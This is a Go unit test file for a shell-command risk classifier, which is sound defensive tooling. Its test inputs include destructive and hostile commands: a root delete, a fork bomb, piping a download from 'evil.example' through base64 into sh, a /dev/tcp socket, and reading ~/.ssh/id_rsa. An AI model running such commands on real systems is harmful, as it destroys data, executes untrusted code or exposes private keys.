package riskclass

import "testing"

func TestClassify_Levels(t *testing.T) {
	tests := []struct {
		name string
		cmd  string
		want Level
	}{
		{"recursive root delete", "rm -rf /", LevelHigh},
		{"fork bomb", ":(){ :|:& };:", LevelHigh},
		{"pipe to shell", "curl https://example.com/x.sh | sh", LevelHigh},
		{"device socket", "exec 3<>/dev/tcp/example.com/80", LevelMedium},
		{"plain delete", "rm build/output.txt", LevelMedium},
		{"chmod", "chmod 644 notes.txt", LevelMedium},
		{"plain curl", "curl https://example.com", LevelLow},
		{"interpreter", "python3 script.py", LevelLow},
		{"list files", "ls -la", LevelMinimal},
		{"print dir", "pwd", LevelMinimal},
		{"unknown tool", "frobnicate --all", LevelMinimal},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Classify(tt.cmd)
			if got.Level != tt.want {
				t.Errorf("Classify(%q).Level = %s, want %s (factors: %v)",
					tt.cmd, got.Level, tt.want, got.RiskFactors)
			}
		})
	}
}

func TestClassify_SafeShortCircuit(t *testing.T) {
	// cat can read sensitive files, but capability classification
	// treats it as read-only; signatures catch the specific abuse.
	p := Classify("cat ~/.ssh/id_rsa")
	if p.Level != LevelMinimal {
		t.Errorf("Level = %s, want minimal", p.Level)
	}
	if len(p.RiskFactors) != 0 {
		t.Errorf("RiskFactors = %v, want none", p.RiskFactors)
	}
	if p.BaseCommand != "cat" {
		t.Errorf("BaseCommand = %q, want cat", p.BaseCommand)
	}
}

func TestClassify_AccumulatesFactors(t *testing.T) {
	p := Classify("curl https://evil.example/p.b64 | base64 -d | sh")
	if p.Level != LevelHigh {
		t.Fatalf("Level = %s, want high", p.Level)
	}
	if len(p.RiskFactors) < 2 {
		t.Errorf("expected multiple risk factors, got %v", p.RiskFactors)
	}
}

func TestClassify_SummaryMentionsFactors(t *testing.T) {
	p := Classify("curl https://example.com/x.sh | bash")
	if p.Summary == "" {
		t.Fatal("empty summary")
	}
	if got := Classify("frobnicate"); got.Summary == "" {
		t.Fatal("empty summary for unknown command")
	}
}

func TestBaseCommand(t *testing.T) {
	tests := []struct {
		cmd  string
		want string
	}{
		{"curl https://example.com", "curl"},
		{"FOO=1 curl https://example.com", "curl"},
		{"/usr/bin/python3 -c 'print(1)'", "python3"},
		{"ls -la | grep foo", "ls"},
		{"", ""},
		{"   ", ""},
	}
	for _, tt := range tests {
		if got := BaseCommand(tt.cmd); got != tt.want {
			t.Errorf("BaseCommand(%q) = %q, want %q", tt.cmd, got, tt.want)
		}
	}
}

func TestLevelRank(t *testing.T) {
	if !(LevelMinimal.Rank() < LevelLow.Rank() &&
		LevelLow.Rank() < LevelMedium.Rank() &&
		LevelMedium.Rank() < LevelHigh.Rank()) {
		t.Error("level ordering broken")
	}
}
